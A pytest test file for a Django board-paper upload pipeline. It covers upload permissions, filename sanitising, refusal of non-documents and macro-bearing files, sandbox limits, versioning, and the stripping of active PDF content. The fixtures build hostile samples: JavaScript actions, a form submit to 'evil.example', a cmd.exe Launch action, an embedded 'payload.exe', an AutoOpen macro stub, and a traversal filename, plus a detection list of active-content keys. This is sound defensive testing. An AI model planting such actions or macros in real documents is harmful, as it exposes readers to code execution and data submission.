"""Paper uploads: checked by content in a limited child process, cleaned, versioned, or refused
with a clear message and nothing left behind."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from documents import ingest, selectors, services
from documents.models import BoardPack, PackCopy, PageText, Paper, PaperVersion, VersionStatus
from tests.conftest import BoardWorld
from tests.pdfs import make_pdf

# --- helpers ---------------------------------------------------------------------------------


def stored_keys(path: str = "") -> set[str]:
    """Every object in the default storage (a folder on disk, or the S3 bucket)."""
    try:
        dirs, files = default_storage.listdir(path)
    except FileNotFoundError:
        return set()
    keys = {f"{path}{name}" for name in files}
    for sub in dirs:
        keys |= stored_keys(f"{path}{sub}/")
    return keys


Upload = Callable[..., PaperVersion]


@pytest.fixture
def upload(world: BoardWorld, django_capture_on_commit_callbacks: Any) -> Upload:
    """Upload as the secretary and run the ingest task (queued after commit) at once."""

    def _upload(data: bytes, name: str = "paper.pdf", *, paper: Paper | None = None, **kw: Any) -> PaperVersion:
        kw.setdefault("title", "Board paper")
        with django_capture_on_commit_callbacks(execute=True):
            version = services.paper_upload(
                actor=kw.pop("actor", world.secretary),
                item=kw.pop("item", world.public_item),
                uploaded=SimpleUploadedFile(name, data),
                paper=paper,
                **kw,
            )
        version.refresh_from_db()
        return version

    return _upload


@pytest.fixture
def nothing_left(world: BoardWorld) -> Iterator[Callable[[], None]]:
    """Call to assert that no stored object and no visible paper was added since the start."""
    before_keys = stored_keys()
    before_papers = set(selectors.papers_for(world.member, world.public_item).values_list("pk", flat=True))

    def check() -> None:
        assert stored_keys() == before_keys
        after = set(selectors.papers_for(world.member, world.public_item).values_list("pk", flat=True))
        assert after == before_papers

    yield check


def assert_refused(version: PaperVersion, message: str) -> None:
    assert version.status == VersionStatus.REFUSED, version.refusal_reason
    assert message in version.refusal_reason
    assert not version.file and not version.original and not version.thumbnails
    assert not PageText.objects.filter(version=version).exists()
    assert version.paper.current_version_id is None or version.paper.current_version_id != version.pk


def pdf_with(build: Callable[[pikepdf.Pdf], None], pages: int = 2) -> bytes:
    pdf = pikepdf.open(io.BytesIO(make_pdf([f"Page {n}" for n in range(1, pages + 1)])))
    build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def js_action(pdf: pikepdf.Pdf, script: str = "app.alert('hi')") -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=script))


ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent"}
ACTIVE_NAMES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/EmbeddedFile"}
ACTIVE_NAMES |= {"/FileAttachment", "/RichMedia"}


def active_content(data: bytes) -> set[str]:
    """Every trace of active content reachable in a PDF (keys and names), by a full walk."""
    found: set[str] = set()
    seen: set[tuple[int, int]] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:

        def walk(obj: Any, depth: int = 0) -> None:
            if depth > 60:
                return
            if isinstance(obj, pikepdf.Name):
                if str(obj) in ACTIVE_NAMES:
                    found.add(str(obj))
                return
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream, pikepdf.Array)) and obj.is_indirect:
                if obj.objgen in seen:
                    return
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Array):
                for child in obj:
                    walk(child, depth + 1)
            elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                for key in map(str, obj.keys()):
                    if key in ACTIVE_KEYS:
                        found.add(key)
                    if key != "/Parent":
                        walk(obj[key], depth + 1)

        walk(pdf.trailer)
    return found


def rendition_bytes(version: PaperVersion) -> bytes:
    with version.file.open("rb") as fh:
        return fh.read()


def minimal_docx(text: str, *, macros: bool = False) -> bytes:
    """A Word document made by hand: the four parts Word and LibreOffice need (plus VBA)."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    if macros:
        main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macros else "")
            + f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        z.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
        )
        if macros:
            z.writestr("word/vbaProject.bin", b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen() Shell "calc"')
    return buf.getvalue()


# --- who may upload ---------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["member", "observer", "outsider", "recused"])
def test_only_those_who_manage_the_item_may_upload(world: BoardWorld, who: str) -> None:
    before = stored_keys()
    with pytest.raises(PermissionDenied):
        services.paper_upload(
            actor=getattr(world, who),
            item=world.public_item,
            title="Sneaky",
            uploaded=SimpleUploadedFile("a.pdf", make_pdf(["x"])),
        )
    assert stored_keys() == before
    assert not Paper.objects.filter(title="Sneaky").exists()


def test_a_paper_of_another_item_cannot_be_replaced_through_this_one(world: BoardWorld) -> None:
    with pytest.raises(PermissionDenied):
        services.paper_upload(
            actor=world.secretary,
            item=world.part_b_item,
            title="",
            uploaded=SimpleUploadedFile("a.pdf", make_pdf(["x"])),
            paper=world.public_paper,
        )


# --- a good upload ----------------------------------------------------------------------------


def test_a_pdf_upload_becomes_a_ready_current_version_with_texts_and_thumbnails(
    world: BoardWorld, upload: Upload
) -> None:
    version = upload(make_pdf(["Budget 2026", "Reserves policy", "Risk register"]), "Budget.pdf", note="First issue")
    assert version.status == VersionStatus.READY and version.refusal_reason == ""
    assert version.number == 1 and version.page_count == 3 and version.note == "First issue"
    paper = version.paper
    assert paper.current_version_id == version.pk and paper.title == "Board paper"
    assert selectors.page_texts(version)[1].strip() == "Reserves policy"
    # The rendition is a clean PDF members read; the original is kept apart under its own key.
    data = rendition_bytes(version)
    assert len(data) == version.size and version.sha256
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 3 and pdf.is_linearized
    assert (version.file.name or "").startswith(f"papers/{paper.pk}/")
    assert (version.original.name or "").startswith(f"originals/{paper.pk}/")
    assert version.original_sha256 and version.original_size > 0
    # One sprite of 160 px wide thumbnails, one cell per page.
    sprite_key, x, y, w, h = version.thumbnail(3) or ("", 0, 0, 0, 0)
    assert sprite_key.startswith(f"thumbs/{paper.pk}/") and (x, y, w) == (320, 0, 160) and h > 200
    with default_storage.open(sprite_key, "rb") as fh:
        sprite = Image.open(io.BytesIO(fh.read()))
        assert sprite.format == "WEBP" and sprite.width == 480
    assert version.thumbnail(4) is None
    assert paper in selectors.papers_for(world.member, world.public_item)


def test_the_file_name_is_metadata_only_without_folders_or_control_characters(upload: Upload) -> None:
    version = upload(make_pdf(["x"]), "../../evil\x00\u202e.pdf")
    assert version.status == VersionStatus.READY
    assert version.original_name == "evil.pdf"
    for key in version.stored_keys():
        assert "evil" not in key and ".." not in key and "\x00" not in key


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("C:\\Users\\clerk\\Board paper.pdf", "Board paper.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe"),
        ("\x1b[31mred.pdf", "[31mred.pdf"),
        ("...", "upload"),
        ("", "upload"),
    ],
)
def test_clean_name(raw: str, clean: str) -> None:
    assert ingest.clean_name(raw) == clean


# --- bad uploads: refused at once, nothing made -----------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"", "empty.pdf", "empty (0 bytes)"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "photo.pdf", "PNG image"),
        (b"hello, this is not a PDF", "notes.pdf", "not a PDF or an Office document"),
        (b"MZ\x90\x00" + b"\x00" * 64, "invoice.pdf", "a program"),
    ],
    ids=["zero-byte", "png-renamed-pdf", "text-renamed-pdf", "exe-renamed-pdf"],
)
def test_uploads_that_are_not_documents_are_refused_at_once(
    world: BoardWorld, nothing_left: Callable[[], None], data: bytes, name: str, message: str
) -> None:
    papers = Paper.objects.count()
    with pytest.raises(ValidationError, match=re.escape(message)):
        services.paper_upload(
            actor=world.secretary, item=world.public_item, title="Bad", uploaded=SimpleUploadedFile(name, data)
        )
    assert Paper.objects.count() == papers
    nothing_left()


def test_an_upload_over_the_size_limit_is_refused_before_it_is_read(
    world: BoardWorld, settings: Any, nothing_left: Callable[[], None]
) -> None:
    settings.BOARDROOM_MAX_UPLOAD_BYTES = 2048

    class Unreadable(io.BytesIO):
        def read(self, *args: Any) -> bytes:
            raise AssertionError("the body was read")

    big = Unreadable(b"%PDF-" + b"0" * 5000)
    big.name = "big.pdf"  # type: ignore[attr-defined]
    big.size = 5005  # type: ignore[attr-defined]
    papers = Paper.objects.count()
    with pytest.raises(ValidationError, match=r"the limit is 2 KB"):
        services.paper_upload(actor=world.secretary, item=world.public_item, title="Big", uploaded=big)
    assert Paper.objects.count() == papers
    nothing_left()


# --- bad uploads: refused by the ingest task, nothing left -------------------------------------


def _truncated() -> bytes:
    data = make_pdf([f"Page {n}" for n in range(12)])
    return data[: len(data) * 6 // 10]


def _encrypted() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf(["Secret"]))) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="board", owner="clerk"))
    return out.getvalue()


def _zip_named_pdf() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("photos/1.jpg", b"\xff\xd8\xff not really")
    return buf.getvalue()


def _damaged() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> garbage garbage\ntrailer <<>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("make", "name", "message"),
    [
        (_truncated, "cut.pdf", "incomplete"),
        (_encrypted, "locked.pdf", "password-protected: remove the password and upload again"),
        (_zip_named_pdf, "archive.pdf", "ZIP archive, not a document"),
        (lambda: minimal_docx("Hello", macros=True), "budget.docm", "contains macros"),
        (lambda: minimal_docx("Hello", macros=True), "budget.docx", "contains macros"),
        (_damaged, "damaged.pdf", "damaged and could not be repaired"),
    ],
    ids=["truncated", "encrypted", "zip-renamed-pdf", "docm-macros", "docm-renamed-docx", "damaged"],
)
def test_bad_uploads_are_refused_with_a_reason_and_leave_nothing(
    world: BoardWorld,
    upload: Upload,
    nothing_left: Callable[[], None],
    make: Callable[[], bytes],
    name: str,
    message: str,
) -> None:
    version = upload(make(), name, title="Refused paper")
    assert_refused(version, message)
    nothing_left()
    # The secretary sees why; members do not see a paper at all.
    builder = dict(selectors.latest_uploads(world.secretary, world.public_item))
    latest = builder[version.paper]
    assert latest is not None and latest.refusal_reason == version.refusal_reason
    assert services.upload_status(version)["reason"] == version.refusal_reason
    assert version.paper not in selectors.papers_for(world.member, world.public_item)
    assert selectors.latest_uploads(world.member, world.public_item) == []


def test_too_many_pages_is_refused(upload: Upload, settings: Any, nothing_left: Callable[[], None]) -> None:
    settings.BOARDROOM_MAX_UPLOAD_PAGES = 3
    version = upload(make_pdf(["1", "2", "3", "4", "5"]))
    assert_refused(version, "This document has 5 pages; the limit is 3")
    nothing_left()


def test_a_pdf_without_pages_is_refused(upload: Upload, nothing_left: Callable[[], None]) -> None:
    out = io.BytesIO()
    pikepdf.new().save(out)
    assert_refused(upload(out.getvalue()), "no pages")
    nothing_left()


def test_the_ingest_child_runs_with_a_memory_limit(
    upload: Upload, settings: Any, nothing_left: Callable[[], None]
) -> None:
    settings.BOARDROOM_INGEST_MEMORY_MB = 40  # too little even to load the PDF libraries
    version = upload(make_pdf(["x"]))
    assert version.status == VersionStatus.REFUSED
    assert version.refusal_reason in (ingest.TOO_BIG_IN_MEMORY, ingest.FAILED)
    nothing_left()


def test_a_child_over_its_time_is_killed_with_its_whole_process_group(tmp_path: Any) -> None:
    started = time.monotonic()
    with pytest.raises(subprocess.TimeoutExpired):
        ingest.run_with_timeout(["sh", "-c", "sleep 30 & sleep 30"], timeout=0.5, cwd=tmp_path)
    assert time.monotonic() - started < 5


# --- active content is stripped ---------------------------------------------------------------


def _javascript(pdf: pikepdf.Pdf) -> None:
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), js_action(pdf)]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(names))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=js_action(pdf, "this.print()"))


def _open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = js_action(pdf, "this.submitForm('https://evil.example/')")


def _launch_and_link(pdf: pikepdf.Pdf) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(URI=pikepdf.String("https://example.org/agenda"), S=pikepdf.Name.URI)
    js_uri = pikepdf.Dictionary(URI=pikepdf.String("javascript:alert(1)"), S=pikepdf.Name.URI)
    annots = [
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
        for action in (launch, link, js_uri)
    ]
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(a) for a in annots]))
    outline_js = pikepdf.Dictionary(Title=pikepdf.String("Open me"), A=js_action(pdf))
    item = pdf.make_indirect(outline_js)
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ evil", mime_type="application/octet-stream")
    spec = pikepdf.AttachedFileSpec(pdf, b"second payload").obj
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[1].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])


def _form_with_scripts(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("amount"),
            Rect=[0, 0, 100, 20],
            AA=pikepdf.Dictionary(K=js_action(pdf, "event.rc = false")),
        )
    )
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    button = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, Rect=[0, 30, 100, 50], A=submit
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([field, button])
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([field, button]), XFA=pdf.make_stream(b"<xdp:xdp><script>evil()</script></xdp:xdp>")
    )


@pytest.mark.parametrize(
    ("build", "expect"),
    [
        (_javascript, {"JavaScript", "automatic actions"}),
        (_open_action, {"open action"}),
        (_launch_and_link, {"launch actions", "unsafe actions", "JavaScript"}),
        (_embedded_file, {"embedded files"}),
        (_form_with_scripts, {"XFA", "automatic actions", "form submission"}),
    ],
    ids=["javascript", "open-action", "launch-and-links", "embedded-file", "form-scripts-xfa"],
)
def test_active_content_is_stripped_from_the_rendition(
    upload: Upload, build: Callable[[pikepdf.Pdf], None], expect: set[str]
) -> None:
    data = pdf_with(build)
    assert active_content(data), "the test PDF should carry active content"
    version = upload(data)
    assert version.status == VersionStatus.READY, version.refusal_reason
    assert expect <= set(version.stripped)
    clean = rendition_bytes(version)
    assert active_content(clean) == set()
    assert b"evil" not in clean and b"MZ evil" not in clean and b"app.alert" not in clean
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert len(pdf.pages) == 2
        if build is _launch_and_link:
            # The plain web link stays; the launch and javascript: links go.
            uris = [str(a.A.URI) for a in pdf.pages[0].obj.get("/Annots", []) if "/A" in a]
            assert uris == ["https://example.org/agenda"]


# --- Office documents -------------------------------------------------------------------------

needs_libreoffice = pytest.mark.skipif(
    ingest.soffice() is None, reason="LibreOffice (soffice) is not installed: run `make system-deps` as root"
)


@needs_libreoffice
def test_a_word_document_is_converted_to_pdf(upload: Upload) -> None:
    version = upload(minimal_docx("Treasurer report for the quarter"), "report.docx")
    assert version.status == VersionStatus.READY, version.refusal_reason
    assert version.content_type == "office/docx" and version.page_count == 1
    assert "Treasurer report for the quarter" in selectors.page_texts(version)[0]
    with pikepdf.open(io.BytesIO(rendition_bytes(version))) as pdf:
        assert len(pdf.pages) == 1


@needs_libreoffice
def test_an_opendocument_text_is_converted_to_pdf(upload: Upload, tmp_path: Any) -> None:
    source = tmp_path / "minutes.txt"
    source.write_text("Minutes of the annual general meeting\n")
    ingest.run_with_timeout(
        [
            ingest.soffice() or "soffice",
            "--headless",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--convert-to",
            "odt",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        timeout=120,
        cwd=tmp_path,
    )
    version = upload((tmp_path / "minutes.odt").read_bytes(), "minutes.odt")
    assert version.status == VersionStatus.READY, version.refusal_reason
    assert version.content_type == "office/odt"
    assert "annual general meeting" in selectors.page_texts(version)[0]


def test_without_libreoffice_an_office_upload_is_refused_with_a_clear_message(
    upload: Upload, monkeypatch: pytest.MonkeyPatch, tmp_path: Any, nothing_left: Callable[[], None]
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # the child finds no soffice on its PATH
    version = upload(minimal_docx("Hello"), "report.docx")
    assert_refused(version, ingest.NEEDS_LIBREOFFICE)
    nothing_left()


# --- scanned papers ---------------------------------------------------------------------------


def _scanned_pdf() -> bytes:
    from PIL import ImageDraw, ImageFont

    image = Image.new("L", (1240, 1754), 255)
    draw = ImageDraw.Draw(image)
    try:
        font: Any = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", 44)
    except OSError:
        font = ImageFont.load_default(size=44)
    draw.text((120, 200), "Minutes of the finance committee", font=font, fill=0)
    draw.text((120, 300), "Budget approved unanimously", font=font, fill=0)
    out = io.BytesIO()
    image.save(out, "PDF", resolution=150)
    return out.getvalue()


@pytest.mark.skipif(
    shutil.which("ocrmypdf") is None or shutil.which("tesseract") is None,
    reason="OCRmyPDF/Tesseract is not installed: run `make system-deps` as root",
)
def test_a_scanned_paper_gets_searchable_text_by_ocr(upload: Upload) -> None:
    version = upload(_scanned_pdf(), "scan.pdf")
    assert version.status == VersionStatus.READY, version.refusal_reason
    assert version.ocr == "done"
    assert "finance committee" in selectors.page_texts(version)[0].lower()


def test_a_scanned_paper_is_accepted_without_text_where_ocr_is_missing(
    upload: Upload, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    version = upload(_scanned_pdf(), "scan.pdf")
    assert version.status == VersionStatus.READY and version.ocr == "unavailable"
    assert selectors.page_texts(version) == [""]


# --- versions ---------------------------------------------------------------------------------


def test_replacing_a_paper_makes_a_new_version_with_a_page_diff(world: BoardWorld, upload: Upload) -> None:
    first = upload(make_pdf(["Summary", "Income", "Spending"]), "v1.pdf", title="Accounts 2026")
    paper = first.paper
    second = upload(
        make_pdf(["Summary", "Income revised", "Spending", "Appendix"]),
        "v2.pdf",
        paper=paper,
        title="",
        note="Income corrected; appendix added",
    )
    assert second.status == VersionStatus.READY and second.number == 2
    assert second.note == "Income corrected; appendix added"
    assert second.page_diff == {"previous": 1, "added": [4], "removed": [], "changed": [2], "unchanged": 2}
    paper.refresh_from_db()
    assert paper.current_version_id == second.pk and paper.title == "Accounts 2026"
    # Older versions stay, with their files, for the secretary; members get the ready ones.
    assert [v.number for v in selectors.versions_for(world.secretary, paper)] == [2, 1]
    first.refresh_from_db()
    assert first.file and default_storage.exists(first.file.name or "")
    third = upload(make_pdf(["Summary", "Spending"]), "v3.pdf", paper=paper)
    assert third.page_diff["removed"] == [2, 4] and third.page_diff["changed"] == []


def test_a_refused_replacement_keeps_the_current_version(world: BoardWorld, upload: Upload) -> None:
    first = upload(make_pdf(["One"]))
    refused = upload(_encrypted(), paper=first.paper)
    assert refused.status == VersionStatus.REFUSED and refused.number == 2
    first.paper.refresh_from_db()
    assert first.paper.current_version_id == first.pk
    assert [v.number for v in selectors.versions_for(world.member, first.paper)] == [1]
    assert [v.number for v in selectors.versions_for(world.secretary, first.paper)] == [2, 1]


def test_the_page_diff_matches_pages_as_a_sequence() -> None:
    diff = services.page_diff(["a", "b", "c"], ["new", "a", "b", "c"], previous=3)
    assert diff == {"previous": 3, "added": [1], "removed": [], "changed": [], "unchanged": 3}
    diff = services.page_diff(["a", "b", "c", "d"], ["a", "B", "d"], previous=1)
    assert diff["changed"] == [2] and diff["removed"] == [3] and diff["added"] == []


def test_deleting_a_paper_removes_its_stored_files(
    world: BoardWorld, upload: Upload, django_capture_on_commit_callbacks: Any
) -> None:
    before = stored_keys()
    version = upload(make_pdf(["One", "Two"]))
    assert stored_keys() - before
    with pytest.raises(PermissionDenied):
        services.paper_delete(actor=world.member, paper=version.paper)
    with django_capture_on_commit_callbacks(execute=True):
        services.paper_delete(actor=world.secretary, paper=version.paper)
    # The meeting's board pack was recompiled without the paper; no earlier pack is kept.
    after = stored_keys()
    assert not set(version.stored_keys()) & after
    assert all(key.startswith("packs/") for key in after - before)
    current = BoardPack.objects.filter(meeting=world.meeting, status="ready").order_by("-revision").first()
    assert current is not None
    assert version.paper_id not in [p["id"] for item in current.manifest["items"] for p in item["papers"]]
    assert {copy.pack_id for copy in PackCopy.objects.all()} == {current.pk}
    assert {copy.file.name for copy in PackCopy.objects.all()} <= after
    assert not Paper.objects.filter(pk=version.paper_id).exists()
